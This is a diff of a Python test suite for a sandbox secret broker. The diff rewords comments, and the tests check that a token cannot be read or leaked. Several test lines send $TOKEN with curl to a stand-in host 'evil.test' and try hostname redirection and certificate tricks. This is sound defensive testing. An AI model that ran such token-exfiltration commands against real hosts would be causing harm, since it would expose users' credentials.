@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Brokered secrets (SEC): a sandbox uses a value it can never read, in a world of the test's own."""
+"""Brokered secrets (SEC): a sandbox uses a value that it can never read, in a test world."""
 
 import base64
 import json
@@ -75,7 +75,7 @@ def net():
             servers.append(good)
             evil = Server(outside, place, ca, "evil.test", EVIL, PORT)
             servers.append(evil)
-            # Says it is the bound host, with a certificate nobody trusts.
+            # Claims to be the bound host, with an untrusted certificate.
             liar = Server(outside, place, Authority(other), HOST, GOOD, PORT + 1)
             servers.append(liar)
             with Daemon(env={"CAY_DNS_UPSTREAM": world.DNS, "CAY_EGRESS_CA_FILE": ca.cert}) as daemon:
@@ -142,13 +142,13 @@ def test_sec_06_only_headers_only_bound_hosts(net, box):
     box.exec(f'{CURL} -d "$TOKEN" "{URL}/path/$TOKEN?q=$TOKEN"').ok()
     last = net.good.seen()[-1]
     assert VALUE not in json.dumps(last) and "cay-secret-" in last["body"] and "cay-secret-" in last["path"]
-    # Another allowed host: untouched, end to end; its certificate is the real one, which we do not trust.
+    # Another allowed host: unchanged, end to end; its certificate is the real one, which we do not trust.
     out = box.exec(f'{CURL} -k -H "X-Token: $TOKEN" https://evil.test:{PORT}/').ok()
     assert "cay-secret-" in out.stdout and VALUE not in json.dumps(net.evil.seen())
     issuer = box.exec(f"echo | openssl s_client -connect evil.test:{PORT} -servername evil.test 2>/dev/null | "
                       "openssl x509 -noout -issuer").stdout
     assert "cay test authority" in issuer
-    # The bound name on a connection to somebody else, and somebody else's name on a bound connection.
+    # The bound name on a connection to another host, and another host's name on a bound connection.
     before = len(net.evil.seen())
     box.exec(f'{CURL} -k -H "X-Token: $TOKEN" --connect-to {HOST}:{PORT}:evil.test:{PORT} {URL}/')
     assert VALUE not in json.dumps(net.evil.seen()) and len(net.evil.seen()) == before
@@ -167,7 +167,7 @@ def test_echo_does_not_show_it(net, box):
     out = box.exec(f'{CURL} -i -H "X-Token: $TOKEN" -H "Authorization: $TOKEN" {URL}/echo > /tmp/echo; cat /tmp/echo').ok()
     assert net.good.last()["x-token"] == VALUE
     assert "*" * len(VALUE) in out.stdout
-    # What arrived inside, not only what came out: the file holds no value either.
+    # Checks what arrived inside, not only what was printed: the file does not contain the value either.
     raw = box.client.raw("GET", f"/v1/sandboxes/{box.id}/files/raw?path=/tmp/echo")[2]
     assert VALUE.encode() not in raw and VALUE.encode().hex() not in raw.decode()
     assert base64.b64encode(VALUE.encode())[:30] not in raw
@@ -176,7 +176,7 @@ def test_echo_does_not_show_it(net, box):
 
 
 def test_sec_01_root_inside_finds_it_nowhere(net, box):
-    """Environment, memory of all processes, files, the authority's key: none has it."""
+    """Environment, memory of all processes, files, the authority's key: none contains it."""
     box.exec(f'{CURL} -o /dev/null -H "X-Token: $TOKEN" {URL}/').ok()
     # Backwards, so that the search itself is not what is found.
     script = f"""
@@ -231,10 +231,10 @@ print(s.recv(65536).decode())
 
 
 def test_slow_client_on_an_unusual_port(net, box):
-    """Its first bytes are waited for, since the address was given out for a bound name."""
+    """The proxy waits for its first bytes, because the address was returned for a bound name."""
     before = len(net.liar.seen())
     out = box.exec(["/usr/bin/python3", "-c", SLOW, HOST, str(PORT + 1)]).ok().stdout
-    assert "broker_unreachable" in out, out  # opened up: this host's certificate is nobody's
+    assert "broker_unreachable" in out, out  # intercepted: this host's certificate is not trusted
     assert len(net.liar.seen()) == before
 
 
@@ -248,7 +248,7 @@ def test_full_network(net):
 
 
 def test_ca_tricks(net, box):
-    """The authority vouches for bound and refused hosts only, and its certificate cannot make others."""
+    """The authority issues certificates only for bound and refused hosts, and its certificate cannot sign others."""
     cert = box.exec("cat /usr/local/share/ca-certificates/cay.crt").stdout
     assert "BEGIN CERTIFICATE" in cert and "PRIVATE" not in cert
     text = box.exec("openssl x509 -in /usr/local/share/ca-certificates/cay.crt -noout -text").stdout
